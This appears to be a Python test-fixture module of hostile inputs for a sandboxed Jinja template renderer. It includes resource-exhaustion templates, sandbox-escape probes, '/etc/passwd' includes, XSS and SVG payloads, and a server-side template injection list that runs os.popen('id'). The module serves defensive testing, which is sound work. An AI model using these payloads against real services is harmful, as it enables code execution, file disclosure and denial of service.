"""Templates that try to get out, to use up the machine, or to make a page that does something."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from pathlib import Path

MARKDOWN: Final = {
    "raw text": "{{ business }}",
    "raw constant": "{{ 'x' }}",
    "safe": "{{ business | safe }}",
    "joined": "{{ (business | md_line) ~ business }}",
    "much text": "{{ 'x' * 10**9 }}",
    "large number": "{{ 10 ** 10 ** 8 }}",
    "padding": "{{ 'x' | center(500000000) }}",
    "wide format": "{{ '%0500000000d' | format(1) }}",
    "wrapped": "{{ ('a ' * 3000000) | wordwrap(1) }}",
    "format method": "{{ '{0.__class__}'.format(business) }}",
    "classes": "{{ business.__class__.__mro__ }}",
    "attr filter": "{{ business | attr('__class__') }}",
    "subclasses": "{{ ().__class__.__base__.__subclasses__() }}",
    "globals of a macro": "{% macro m() %}{% endmacro %}{{ m.__globals__ }}",
    "range": "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
    "lipsum": "{{ lipsum(200000) }}",
    "cycler": "{{ cycler.__init__.__globals__ }}",
    "joiner": "{{ joiner.__init__.__globals__ }}",
    "namespace": "{% set n = namespace(x=1) %}",
    "itself": "{{ self.__init__.__globals__ }}",
    "endless macro": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "endless include": "{% include 'markdown/plan.md.j2' %}",
    "file": "{% include '/etc/passwd' %}",
    "file outside": "{% include '../../secret.md.j2' %}",
    "changed data": "{{ sections.append(1) }}",
    "loops in loops": "{% for a in front recursive %}{{ loop(front) }}{% endfor %}",
    "loops without end": "".join(f"{{% for x{n} in front %}}" for n in range(18)) + "{% endfor %}" * 18,
    "doubled": "{% set x = 'x' | md_line %}" + "{% set x %}{{ x }}{{ x }}{% endset %}" * 40,
    "written without end": "{% set x = 'x' | md_line %}"
    + "{% set x %}{{ x }}{{ x }}{% endset %}" * 24
    + "{{ x }}",
    "nested deeply": "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",
}
"""Each is the third line of a template; none may end in a report."""
GENTLE: Final = (
    "raw text",
    "raw constant",
    "safe",
    "classes",
    "subclasses",
    "format method",
    "lipsum",
    "cycler",
)
"""Those that a template engine without a fence renders at once."""
PAGES: Final = {
    "script": "<script>alert(1)</script>",
    "script in pieces": "<scr{# #}ipt>alert(1)</scr{# #}ipt>",
    "refresh": '<meta name=">" http-equiv="refresh" content="0;url=https://example.com/?{{ title }}">',
    "link": '<link rel="preconnect" href="https://example.com">',
    "form": '<form action="https://example.com"><button>x</button></form>',
    "frame": '<iframe src="https://example.com"></iframe>',
}
"""Each stands behind the head of a page."""
PICTURES: Final = {
    "script": "<script>alert(1)</script>",
    "handler": '<rect onload="alert(1)"/>',
    "outside": '<image href="/etc/passwd"/>',
    "link": '<a href="https://example.com"><text>x</text></a>',
    "repeated": '<use href="#a"/>',
    "style": "<style>@import 'https://example.com/a.css';</style>",
    "fill": '<rect fill="url(https://example.com/a)"/>',
    "instruction": "<?xml-stylesheet href='https://example.com/a.css'?>",
    "unclosed": "<g>",
}
"""Each stands inside a picture."""
ANSWERS: Final = (
    "{{7*7}}",
    "{{ 7*'7' }}",
    "{%- raw -%}x{%- endraw -%}",
    "{# gone #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "*{7*7}",
    "@{7*7}",
    "{{config}}",
    "{{self}}",
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ request.application.__globals__ }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ url_for.__globals__ }}",
    "{{ joiner.__init__.__globals__.os }}",
    "{{ namespace.__init__.__globals__.os }}",
    "{{ (1).__class__ }}",
    "{{ [].__class__.__base__ }}",
    "{{ dict.__base__ }}",
    "{{ ''|attr('__class__') }}",
    "{{ 'x'|safe }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% extends '/etc/passwd' %}",
    "{% set x = 1 %}",
    "{% macro x() %}{% endmacro %}",
    "{% if 1 %}yes{% endif %}",
    "{% block x %}{% endblock %}",
    "{{ range(99999999) }}",
    "{{ 'x'*10**9 }}",
    "{{ 10**10**8 }}",
    "}}{{ 7*7 }}{{",
    "%}{{ 7*7 }}{%",
    "#}{{ 7*7 }}{#",
    "\\{{7*7}}",
)
"""What people type who hope that an answer is a template."""


def with_template(folder: Path, name: str, text: str) -> Path:
    """The folder, which holds this one template now."""
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return folder
